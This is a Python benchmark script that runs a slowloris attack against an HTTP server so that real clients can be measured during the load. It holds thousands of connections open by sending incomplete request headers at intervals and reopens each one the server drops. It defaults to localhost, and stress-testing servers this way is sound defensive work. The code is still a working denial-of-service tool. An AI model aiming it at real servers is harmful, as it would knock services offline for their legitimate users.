#!/usr/bin/env python3
"""bench/flood/slowloris.py — a slowloris against an HTTP server, for measuring.

Keeps N connections open to HOST:PORT, each sending an HTTP request head one
small piece every INTERVAL seconds and never finishing it; a connection the
server closes is opened again. Meanwhile measure real clients, e.g.

    ulimit -n 1024; build/examples/net/http_hello --port 8080 &
    python3 bench/flood/slowloris.py --port 8080 --connections 2000 --seconds 60 &
    curl -s -o /dev/null -m 30 -w '%{http_code} %{time_total}\\n' http://127.0.0.1:8080/

Prints, once a second, how many of its connections are open and how many the
server has closed so far.
"""
import argparse
import asyncio
import time


async def attacker(host, port, interval, stats, stop):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.5)
            continue
        stats["open"] += 1
        try:
            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
            await writer.drain()
            while not stop.is_set():
                try:
                    data = await asyncio.wait_for(reader.read(1024), timeout=interval)
                    if not data:  # closed by the server
                        stats["closed"] += 1
                        break
                except asyncio.TimeoutError:
                    writer.write(b"X-a: b\r\n")  # one more header line, never the end
                    await writer.drain()
        except (OSError, ConnectionError):
            stats["closed"] += 1
        finally:
            stats["open"] -= 1
            writer.close()


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, default=8080)
    ap.add_argument("--connections", type=int, default=2000)
    ap.add_argument("--interval", type=float, default=1.0)
    ap.add_argument("--seconds", type=float, default=60)
    a = ap.parse_args()
    stats = {"open": 0, "closed": 0}
    stop = asyncio.Event()
    tasks = [asyncio.create_task(attacker(a.host, a.port, a.interval, stats, stop))
             for _ in range(a.connections)]
    t0 = time.monotonic()
    while time.monotonic() - t0 < a.seconds:
        await asyncio.sleep(1)
        print(f"slowloris: {stats['open']} open, {stats['closed']} closed by the server", flush=True)
    stop.set()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(main())
